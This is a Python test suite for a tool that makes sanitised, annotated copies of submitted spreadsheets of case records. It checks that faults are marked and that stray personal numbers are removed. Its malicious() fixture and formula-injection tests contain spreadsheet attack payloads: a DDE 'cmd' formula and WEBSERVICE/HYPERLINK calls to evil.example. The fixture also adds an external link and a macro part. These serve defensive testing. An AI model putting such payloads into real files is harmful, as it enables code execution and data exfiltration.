"""The marked copy: every fault at its own cell, nothing of the file that could do harm, no number out of its place."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Sequence
from datetime import date, datetime
from io import BytesIO
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.formatting.rule import Rule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet
from python_calamine import CalamineWorkbook

from expectations.hand_in_gate import JudgedFile
from expectations.marked import look
from expectations.marked import marked_copy as module
from expectations.marked.harmless import FAILED, title_of, write_value
from expectations.marked.marked_copy import marked_copy
from expectations.marked.marking import MOST_COMMENTS
from expectations.marked.to_put_right import MOST_LINES, TITLE, counted
from expectations.reading.grid import Cell
from expectations.reading.stray_numbers import REMOVED
from method.judging import Problem, Severity, Verdict
from tests import golden
from tests.hand_in_factory import FRAME_HEADINGS, case, delimited, judge_file, workbook

STRAY = "20121103-9811"
BROKEN = golden.ROOT / "demo" / "broken"
FILES = sorted(path.name for path in BROKEN.glob("*_norrmalm_*"))
FIRST_LINE = 7
GIRL = case()
BOY = case(case_ref="NM-2020-00342", personal_number="20120103-9813", sex="P", age=8)
NO_SEX = case(case_ref="NM-2020-00344", personal_number="20160305-9807", sex=None)


def judged(content: bytes) -> JudgedFile:
    return judge_file("frame_norrmalm.xlsx", content)


def copy_of(content: bytes) -> bytes:
    copy = marked_copy(content, judged(content))
    assert copy is not None
    return copy


def sheets(copy: bytes) -> list[Worksheet]:
    return [page for page in load_workbook(BytesIO(copy)).worksheets if isinstance(page, Worksheet)]


def lines(page: Worksheet) -> list[tuple[Any, ...]]:
    return [row for row in page.iter_rows(min_row=FIRST_LINE, max_col=6, values_only=True) if row[0] is not None]


def marked(page: Worksheet) -> dict[str, str]:
    """The cells with a comment, and what it says."""
    return {cell.coordinate: cell.comment.text for row in page.iter_rows() for cell in row if cell.comment}


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(contents: dict[str, bytes]) -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in contents.items():
            archive.writestr(name, text)
    return target.getvalue()


def saved(book: Workbook) -> bytes:
    target = BytesIO()
    book.save(target)
    return target.getvalue()


def opened(rows: Sequence[Sequence[Any]]) -> Workbook:
    return load_workbook(BytesIO(workbook(rows)))


def holds(copy: bytes, number: str) -> list[str]:
    """The parts of the copy in which the number's digits stand, however they are parted."""
    year, month, day, last = re.findall("..(..)(..)(..).(....)", number)[0]
    pattern = re.compile(rf"{year}\D{{0,9}}{month}\D{{0,9}}{day}\D{{0,9}}{last}")
    return [name for name, text in parts(copy).items() if pattern.search(text.decode("utf-8", errors="replace"))]


@pytest.mark.parametrize("name", FILES)
def test_a_broken_files_copy_has_its_cells_where_they_were_and_every_problem_in_its_list(name: str) -> None:
    content = (BROKEN / name).read_bytes()
    file = judge_file(name, content)
    copy = marked_copy(content, file)
    if file.file is None:
        assert copy is None
        return
    assert copy is not None
    theirs, (first, own) = file.file.grid.rows, sheets(copy)
    assert first.title == TITLE
    for number, row in enumerate(theirs, start=1):
        for place, value in enumerate(row, start=1):
            written = own.cell(number, place).value
            same = written in (value, REMOVED) or (isinstance(written, datetime) and written.date() == value)
            assert same, f"{name}, row {number}, column {place}"
    serious = [one for one in file.judgement.problems if one.severity is not Severity.NOTE]
    listed = [(row[2], row[3], row[4]) for row in lines(first) if row[1] != "Not"]
    assert listed == [(one.row, one.column, one.message) for one in serious][:MOST_LINES]
    for one in serious:
        if one.row is not None:
            said = [text for cell, text in marked(own).items() if re.fullmatch(rf"[A-Z]+{one.row}", cell)]
            assert any(one.told in text for text in said), f"{name}: nothing marked for row {one.row}"


def test_a_fault_is_marked_where_its_line_in_the_list_leads() -> None:
    first, own = sheets(copy_of(workbook([["Lista 2020"], FRAME_HEADINGS, GIRL, BOY, NO_SEX])))
    [line] = [row for row in range(FIRST_LINE, first.max_row + 1) if first.cell(row, 2).value == "Fel"]
    link = first.cell(line, 7).hyperlink
    assert link is not None
    assert (link.target, link.location) == (None, "'Ärendelista'!C5")
    assert own["C5"].fill.fgColor.rgb != own["C4"].fill.fgColor.rgb
    assert marked(own)["C5"].startswith("Fel: ")


def test_the_lists_first_lines_say_how_many_and_what_becomes_of_the_file() -> None:
    first, _ = sheets(copy_of(workbook([FRAME_HEADINGS, GIRL, BOY, NO_SEX])))
    assert first["A1"].value == "Att rätta: 1 fel"
    assert str(first["A2"].value).startswith("Filen kan inte användas.")
    assert first.freeze_panes == f"A{FIRST_LINE}"
    assert first.auto_filter.ref == f"A{FIRST_LINE - 1}:G{FIRST_LINE}"
    assert (first.page_setup.orientation, first.page_setup.fitToHeight) == ("landscape", 0)


@pytest.mark.parametrize(
    ("severities", "said"),
    [
        ([], "inga fel"),
        ([Severity.WARN], "1 varning"),
        ([Severity.STOP, Severity.STOP, Severity.NOTE], "2 fel och 1 not"),
        ([Severity.STOP, Severity.WARN, Severity.WARN, Severity.NOTE, Severity.NOTE], "1 fel, 2 varningar och 2 noter"),
    ],
)
def test_how_many_problems_there_are_is_said_in_words(severities: list[Severity], said: str) -> None:
    assert counted([Problem("x", severity, None, None, "") for severity in severities]) == said


def test_notes_of_one_sort_are_one_line() -> None:
    rows = [case(case_ref=f"NM-2020-{number:05}", sex="Flicka") for number in range(300, 312)]
    content = workbook([FRAME_HEADINGS, *rows, BOY])
    first, own = sheets(copy_of(content))
    [note] = [row for row in lines(first) if row[3] == "Kön"]
    assert (note[1], note[2]) == ("Not", "2, 3, 4, 5, 6, 7, 8, 9 … (12 rader)")
    assert [cell for cell in marked(own) if cell.startswith("C")] == [f"C{row}" for row in range(2, 14)]


def test_a_long_list_ends_and_says_how_many_more_there_are() -> None:
    rows = [case(case_ref=f"NM-2020-{number:05}", sex=None) for number in range(MOST_LINES + 7)]
    content = workbook([FRAME_HEADINGS, *rows])
    total = len([one for one in judged(content).judgement.problems if one.severity is not Severity.NOTE])
    first, own = sheets(copy_of(content))
    assert len(lines(first)) == MOST_LINES
    assert f"det finns {total - MOST_LINES} till" in str(first["A3"].value)
    assert f"C{MOST_LINES + 8}" in marked(own)


def test_comments_end_before_a_file_becomes_too_slow_to_open_but_colours_do_not() -> None:
    rows = [case(case_ref=f"NM-2020-{number:05}", sex=None) for number in range(MOST_COMMENTS + 5)]
    _, own = sheets(copy_of(workbook([FRAME_HEADINGS, *rows])))
    assert len(marked(own)) == MOST_COMMENTS
    last = own.cell(MOST_COMMENTS + 6, 3)
    assert last.fill.fgColor.rgb == own["C2"].fill.fgColor.rgb


def test_the_three_colours_differ_in_lightness() -> None:
    first, _ = sheets(copy_of(workbook([FRAME_HEADINGS, NO_SEX])))
    colours = [str(first.cell(4, column).fill.fgColor.rgb)[-6:] for column in (2, 3, 4)]
    weights = (0.2126, 0.7152, 0.0722)
    light = [sum(int(c[2 * k : 2 * k + 2], 16) * w for k, w in enumerate(weights)) for c in colours]
    assert light[0] + 30 < light[1]
    assert light[1] + 15 < light[2]


def test_problems_of_one_cell_share_a_comment_that_is_high_enough() -> None:
    content = workbook([FRAME_HEADINGS, GIRL, BOY, case(case_ref="NM-2020-00344", age=55, sex="P")])
    file = judged(content)
    at_age = [one for one in file.judgement.problems if (one.row, one.column) == (4, "Ålder")]
    _, own = sheets(copy_of(content))
    comment = own["D4"].comment
    assert comment is not None
    assert len(at_age) > 1
    assert all(one.told in comment.text for one in at_age)
    assert comment.text.count("Fel: ") + comment.text.count("Varning: ") == len(at_age)


def test_a_missing_column_stands_in_the_list_only_and_a_column_without_rows_at_its_heading() -> None:
    headings = [*[heading for heading in FRAME_HEADINGS if heading != "Kön"], "Fritext"]
    rows = [[*row[:2], *row[3:], "x"] for row in (GIRL, BOY)]
    content = workbook([headings, *rows])
    first, own = sheets(copy_of(content))
    missing = next(row for row in range(FIRST_LINE, 20) if first.cell(row, 4).value == "Kön")
    assert first.cell(missing, 7).value is None
    assert list(marked(own)) == ["H1"]


def test_a_row_without_column_marks_its_first_cell() -> None:
    _, own = sheets(copy_of(workbook([["Lista 2020"], FRAME_HEADINGS, GIRL, BOY])))
    assert list(marked(own)) == ["A1"]


def test_look_and_widths_are_kept_and_joined_cells_of_the_table_parted() -> None:
    book = opened([["Lista 2020"], FRAME_HEADINGS, GIRL, BOY, NO_SEX])
    page = book.worksheets[0]
    page.merge_cells("A1:C1")
    page.merge_cells("H3:H4")
    page.column_dimensions["B"].width = 33
    page.row_dimensions[2].height = 40
    page.row_dimensions[4].hidden = True
    page["C2"].font = Font(name="Arial", bold=True, color="FFFFFF")
    page["C2"].fill = PatternFill("solid", fgColor="123456")
    page["E3"].number_format = "d mmm yyyy"
    _, own = sheets(copy_of(saved(book)))
    assert (own.column_dimensions["B"].width, own.row_dimensions[2].height) == (33, 40)
    assert (own["C2"].font.name, own["C2"].fill.fgColor.rgb) == ("Arial", "00123456")
    assert own["E3"].number_format == "d mmm yyyy"
    assert [area.coord for area in own.merged_cells.ranges] == ["A1:C1"]
    assert not own.row_dimensions[4].hidden
    assert own.freeze_panes == "A3"


def test_a_mark_can_be_read_on_a_dark_cell() -> None:
    book = opened([FRAME_HEADINGS, NO_SEX])
    book.worksheets[0]["C2"].font = Font(color="FFFFFF")
    _, own = sheets(copy_of(saved(book)))
    assert own["C2"].font.color is not None
    assert own["C2"].font.color.rgb == "00000000"


def test_the_senders_comment_stays_after_ours() -> None:
    book = opened([FRAME_HEADINGS, GIRL, BOY, NO_SEX])
    book.worksheets[0]["C4"].comment = Comment("kollas med enheten", "Karin")
    book.worksheets[0]["A2"].comment = Comment("klart", "Karin")
    content = saved(book)
    _, own = sheets(copy_of(content))
    assert marked(own)["C4"].startswith("Fel: ")
    assert marked(own)["C4"].endswith("Avsändaren: kollas med enheten")
    assert marked(own)["A2"] == "klart"
    assert b"Karin" not in b"".join(parts(copy_of(content)).values())


def test_a_copy_put_right_and_handed_in_again_gets_marks_of_its_own() -> None:
    copy = load_workbook(BytesIO(copy_of(workbook([FRAME_HEADINGS, GIRL, BOY, NO_SEX, ["", *GIRL[1:]]]))))
    own = copy.worksheets[1]
    own["C4"] = "F"
    again = sheets(copy_of(saved(copy)))
    assert [page.title for page in again] == [TITLE, "Ärendelista"]
    assert list(marked(again[1])) == ["A5"]
    assert again[1]["C4"].fill.fill_type is None


@pytest.mark.parametrize("text", ["=1+1", "+46 8 123", "-", "@SUM(A1)", '=HYPERLINK("http://x")', "=cmd|' /C calc'!A0"])
@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_text_that_begins_like_a_formula_is_text(text: str, suffix: str) -> None:
    book = Workbook()
    rows = [FRAME_HEADINGS, case(handling_unit=text), NO_SEX]
    for row in rows:
        book.worksheets[0].append(row)
    book.worksheets[0]["H2"].data_type = "s"
    other = book.create_sheet("Underlag")
    other["A1"] = text
    other["A1"].data_type = "s"
    content = saved(book) if suffix == "xlsx" else delimited(rows)
    copy = copy_of(content)
    assert not [name for name, part in parts(copy).items() if b"<f>" in part or b"<f " in part]
    own = sheets(copy)[1]
    assert (own["H2"].value, own["H2"].data_type, bool(own["H2"].quotePrefix)) == (text, "s", True)
    if suffix == "xlsx":
        other = sheets(copy)[2]
        assert (other["A1"].value, other["A1"].data_type) == (text, "s")


def malicious() -> bytes:
    """A workbook that would fetch, run and point at things, with a number in each place that is no cell."""
    book = opened([FRAME_HEADINGS, GIRL, BOY, NO_SEX])
    page = book.worksheets[0]
    page["H2"], page["H3"] = '=HYPERLINK("http://evil.example/a","x")', "=cmd|' /C calc'!A0"
    page["A2"].hyperlink = "http://evil.example/b"
    page["J1"], page["J2"] = "Extra", "='[1]Blad1'!A1"
    book.defined_names["leak"] = DefinedName("leak", attr_text='WEBSERVICE("http://evil.example/c")')
    for formula in ('"Ja,Nej"', "Underlag!$A$1:$A$2", 'INDIRECT("http://evil.example")', f'"{STRAY},x"'):
        rule = DataValidation(type="list", formula1=formula, prompt=f"evil {STRAY}", promptTitle="evil")
        rule.add("C2:C9")
        page.add_data_validation(rule)
    page.conditional_formatting.add("A1:A9", Rule("expression", formula=['WEBSERVICE("http://evil.example/d")=1']))
    for edge in (page.oddHeader, page.oddFooter):
        assert edge is not None
        edge.center.text = f"evil {STRAY}"
    page["E2"].number_format = f'"{STRAY}"'
    book.create_sheet("Underlag").append(["Ja"])
    book.create_sheet(STRAY).append(["Ja"])
    book.properties.creator = book.properties.title = book.properties.keywords = f"evil {STRAY}"
    contents = parts(saved(book))
    sheet = contents["xl/worksheets/sheet1.xml"]
    contents["xl/worksheets/sheet1.xml"] = re.sub(rb"</f><v ?/>|</f><v></v>", b"</f><v>7</v>", sheet)
    relations = contents["xl/_rels/workbook.xml.rels"].decode()
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    more = (
        f'<Relationship Id="rId90" Type="{office}/externalLink" Target="externalLinks/externalLink1.xml"/>'
        '<Relationship Id="rId91" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>'
    )
    contents["xl/_rels/workbook.xml.rels"] = relations.replace("</Relationships>", f"{more}</Relationships>").encode()
    contents["xl/vbaProject.bin"] = b"evil macro"
    contents["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
        f'xmlns:r="{office}" r:id="rId1"/></externalLink>'.encode()
    )
    contents["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{office}/externalLinkPath" Target="http://evil.example/e.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    types = contents["[Content_Types].xml"].decode()
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    contents["[Content_Types].xml"] = (
        types.replace(main, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
        .replace(
            "</Types>",
            '<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
        )
        .encode()
    )
    return packed(contents)


def test_nothing_that_acts_comes_along() -> None:
    content = malicious()
    assert judged(content).may_be_kept
    copy = copy_of(content)
    everything = b"".join(parts(copy).values())
    for word in (
        b"evil",
        b"/C calc",
        b"WEBSERVICE",
        b"INDIRECT",
        b"vbaProject",
        b"macroEnabled",
        b"TargetMode",
        b"<f>",
    ):
        assert word not in everything, word
    assert not [name for name in parts(copy) if "external" in name or "vba" in name]
    own = sheets(copy)[1]
    assert [own["H2"].value, own["H3"].value, own["J2"].value] == [7, 7, 7], "the last values of the formulas"
    assert [rule.formula1 for rule in own.data_validations.dataValidation] == ['"Ja,Nej"', "Underlag!$A$1:$A$2"]
    assert own["A2"].hyperlink is None


def test_a_number_in_a_sheets_name_or_in_what_is_no_cell_does_not_come_along() -> None:
    copy = copy_of(malicious())
    assert [page.title for page in sheets(copy)] == [TITLE, "Ärendelista", "Underlag", "Blad 3"]
    assert holds(copy, STRAY) == []


VARIANTS = (
    STRAY,
    "121103–9811",
    "201211039811",
    "20121103 9811",
    "2012-11-03-9811",
    "121103+9811",
    "121103-\u200b9811",
)


@pytest.mark.parametrize("number", VARIANTS)
@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_a_stray_number_is_nowhere_in_the_copy(number: str, suffix: str) -> None:
    rows = [
        [f"Lista {number}"],
        [*FRAME_HEADINGS, "Not", f"Barn {number}"],
        [*case(handling_unit=f"Enhet, {number}"), f"{number} och mer"],
        [*BOY, None, f"se {number}"],
    ]
    content = workbook(rows, Underlag=[["x"], [None, number]]) if suffix == "xlsx" else delimited(rows)
    assert holds(packed({"all": "".join(map(str, rows)).replace("\\u200b", "").encode()}), STRAY), "a search that finds"
    assert not judged(content).may_be_kept
    copy = copy_of(content)
    assert holds(copy, STRAY) == []
    assert number.encode() not in b"".join(parts(copy).values())
    own = sheets(copy)[1]
    assert [own[cell].value for cell in ("A1", "J2", "H3", "I3", "J4")] == [REMOVED] * 5
    assert own["B3"].value == GIRL[1], "where personal numbers may stand they are kept"
    assert {"A1", "J2", "H3", "I3", "J4"} <= set(marked(own))
    if suffix == "xlsx":
        assert sheets(copy)[2]["B2"].value == REMOVED
        assert list(marked(sheets(copy)[2])) == ["B2"]


def test_a_stray_number_kept_as_a_number_is_nowhere_in_the_copy() -> None:
    rows = [[*FRAME_HEADINGS, "Syskon"], [*GIRL, 201211039811], [*BOY, 1211039811]]
    copy = copy_of(workbook(rows, Underlag=[[201211039811]]))
    assert holds(copy, STRAY) == []
    assert [sheets(copy)[1][cell].value for cell in ("I2", "I3")] == [REMOVED] * 2


def test_of_a_file_with_a_stray_number_only_values_come_along() -> None:
    book = load_workbook(BytesIO(malicious()))
    page = book.worksheets[0]
    page.title = f"Lista {STRAY}"
    page["H4"] = f"se {STRAY}"
    page["A2"].comment = Comment(f"se {STRAY}", STRAY)
    book.properties.creator = STRAY
    copy = copy_of(saved(book))
    assert holds(copy, STRAY) == []
    assert b"evil" not in b"".join(parts(copy).values())
    assert [one.title for one in sheets(copy)][0:2] == [TITLE, "Blad 1"]
    first = sheets(copy)[0]
    assert "borttagna" in str(first["A3"].value)


def test_a_csv_with_an_instruction_as_first_line_has_the_gates_row_numbers() -> None:
    rows = delimited([FRAME_HEADINGS, GIRL, BOY, NO_SEX])
    _, own = sheets(copy_of(b"sep=;\r\n" + rows))
    assert own["A1"].value == FRAME_HEADINGS[0]
    assert "C4" in marked(own)
    assert own.title == "Er fil"


def test_what_no_workbook_can_hold_is_left_out_without_a_fault() -> None:
    odd = case(case_ref="NM-2020-00345", handling_unit="a\x0bb\x0c" + "x" * 40_000, report_received="1899-01-01")
    _, own = sheets(copy_of(delimited([FRAME_HEADINGS, GIRL, BOY, odd])))
    assert str(own["H4"].value).startswith("abxxx")


def test_a_failed_formula_is_shown_in_words() -> None:
    book = opened([FRAME_HEADINGS, GIRL, BOY])
    book.worksheets[0]["D2"] = "=1/0"
    _, own = sheets(copy_of(saved(book)))
    assert own["D2"].value == FAILED
    assert "D2" in marked(own)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (date(1900, 2, 28), "1900-02-28"),
        (date(1900, 3, 1), date(1900, 3, 1)),
        (float("inf"), "inf"),
        (4.0, 4),
        (4.5, 4.5),
        (True, True),
    ],
)
def test_a_value_that_a_sheet_cannot_hold_is_written_out(value: Cell, written: Cell) -> None:
    page = Workbook().worksheets[0]
    assert isinstance(page, Worksheet)
    assert write_value(page, 1, 1, value).value == written


def test_the_look_of_a_workbook_that_takes_too_long_or_has_other_sheets_is_left(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    content = workbook([FRAME_HEADINGS, GIRL])
    assert look.opened(content, names=1) is not None
    assert look.opened(content, names=2) is None
    monkeypatch.setattr(look, "_LARGEST", 100)
    assert look.opened(content, names=1) is None


@pytest.mark.parametrize(
    ("name", "taken", "title"),
    [
        ("Ärendelista", ["Att rätta"], "Ärendelista"),
        ("att rätta", ["Att rätta"], "Blad 2"),
        (f"Lista {STRAY}", [], "Blad 2"),
        ("a/b:c", [], "a b c"),
        ("'x'", [], "x"),
        (None, ["Blad 2"], "Blad 2_"),
        ("å" * 40, [], "å" * 31),
    ],
)
def test_a_sheet_has_its_own_name_where_it_may(name: str | None, taken: list[str], title: str) -> None:
    assert title_of(name, number=2, taken=taken) == title


def test_a_file_too_large_to_mark_gets_the_list_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "MOST_ROWS", 2)
    [first] = sheets(copy_of(workbook([FRAME_HEADINGS, GIRL, BOY, NO_SEX])))
    assert "för stor" in str(first["A3"].value)
    [line] = lines(first)
    assert line[2:4] == (4, "Kön")


def test_a_file_that_could_not_be_opened_has_no_copy() -> None:
    assert marked_copy(b"", judged(b"")) is None


def test_the_same_file_gives_the_same_bytes_and_the_copy_names_nobody() -> None:
    content = workbook([FRAME_HEADINGS, GIRL, BOY, NO_SEX])
    copy = copy_of(content)
    assert copy == copy_of(content)
    with zipfile.ZipFile(BytesIO(copy)) as archive:
        assert {part.date_time[0] for part in archive.infolist()} == {1980}
    core = parts(copy)["docProps/core.xml"]
    assert b"creator" not in core
    assert b"modified" not in core


def test_the_other_reader_of_workbooks_sees_the_same() -> None:
    copy = copy_of(workbook([FRAME_HEADINGS, GIRL, BOY, NO_SEX]))
    book = CalamineWorkbook.from_filelike(BytesIO(copy))
    assert book.sheet_names == [TITLE, "Ärendelista"]
    assert book.get_sheet_by_name("Ärendelista").to_python()[3][0] == "NM-2020-00344"
    assert judged(copy).judgement.verdict is Verdict.REJECTED, "a copy can be put right and handed in"


def test_an_ods_file_is_marked_by_its_values() -> None:
    faulty = ("NM-2020-00341", "20160229-9800", "X", "4", "2020-04-08", "2020-04-20", "2020-08-01", "En")
    cells, others = (
        "".join(
            f"<table:table-cell office:value-type='string'><text:p>{text}</text:p></table:table-cell>" for text in row
        )
        for row in (FRAME_HEADINGS, faulty)
    )
    names = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    content = packed(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "META-INF/manifest.xml": b"<manifest/>",
            "content.xml": (
                f"<office:document-content {names}><office:body><office:spreadsheet><table:table table:name='Lista'>"
                f"<table:table-row>{cells}</table:table-row><table:table-row>{others}</table:table-row>"
                "</table:table></office:spreadsheet></office:body></office:document-content>"
            ).encode(),
        }
    )
    _, own = sheets(copy_of(content))
    assert own.title == "Lista"
    assert "C2" in marked(own)


def test_a_workbook_formatted_to_its_last_row_is_copied_without_its_look() -> None:
    book = opened([FRAME_HEADINGS, GIRL, BOY, NO_SEX])
    book.worksheets[0]["XFD1048576"].fill = PatternFill("solid", fgColor="FF0000")
    book.worksheets[0].column_dimensions["B"].width = 77
    _, own = sheets(copy_of(saved(book)))
    assert own.max_row < 10
    assert own.column_dimensions["B"].width != 77
    assert "C4" in marked(own)


def test_judging_another_kind_marks_its_own_sheet() -> None:
    content = (BROKEN / "review_norrmalm_08_unknown_answer.xlsx").read_bytes()
    file = judge_file("review_norrmalm_08.xlsx", content)
    copy = marked_copy(content, file)
    assert copy is not None
    assert len(marked(sheets(copy)[1])) == len([one for one in file.judgement.problems if one.column])


@settings(max_examples=25)
@given(part=st.sampled_from(["xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/workbook.xml"]), data=st.data())
def test_a_workbook_that_could_be_read_has_a_copy_however_odd_it_is_inside(*, part: str, data: st.DataObject) -> None:
    contents = parts(workbook([["Lista 2020"], FRAME_HEADINGS, GIRL, BOY, NO_SEX]))
    words = [*re.finditer(rb"(?<=[\">])[^\"<>=?]+(?=[\"<])", contents[part])]
    word = data.draw(st.sampled_from(words))
    odd = [b"", b"0", b"-1", b"e", b"d", b"A0", b"ZZZZ9", b"XFD1048576", b"1E999", b"_x0001_", b"A1:B2", b"x" * 999]
    other = data.draw(st.sampled_from(odd))
    contents[part] = contents[part][: word.start()] + other + contents[part][word.end() :]
    content = packed(contents)
    file = judged(content)
    copy = marked_copy(content, file)
    assert (copy is None) == (file.file is None)
    if copy is not None:
        assert sheets(copy)[0].title == TITLE
